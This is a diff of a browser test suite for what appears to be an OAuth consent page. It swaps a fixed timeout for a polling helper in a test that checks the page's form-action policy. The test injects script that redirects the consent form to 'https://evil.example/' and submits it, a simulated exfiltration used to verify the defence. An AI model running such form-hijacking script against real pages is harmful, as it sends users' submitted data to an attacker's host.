@@ -21,6 +21,7 @@ import { bill, invoicesOf, path as pathOf, subscribe } from '../helpers/billing.
 import { byTurns, sample } from '../helpers/long.ts'
 import { authorizationUrl, makePerson, pkce, post } from '../helpers/people.ts'
 import { scratchDirectory } from '../helpers/process.ts'
+import { until } from '../helpers/until.ts'
 
 // Checks that need a real browser: policies, popups, redirects, keyboard use and layout.
 
@@ -457,8 +458,7 @@ t.test('CR-45: the policy of the consent page stops scripts, and forms that woul
   await page.evaluate(
     "document.querySelector('form').action = 'https://evil.example/'; document.querySelector('button.main').click()"
   )
-  await page.waitForTimeout(300)
-  t.match(window.wrongs.join('\n'), /form-action/)
+  await until(() => /form-action/.test(window.wrongs.join('\n')))
   t.strictSame(elsewhere(window, url), [])
 })
 
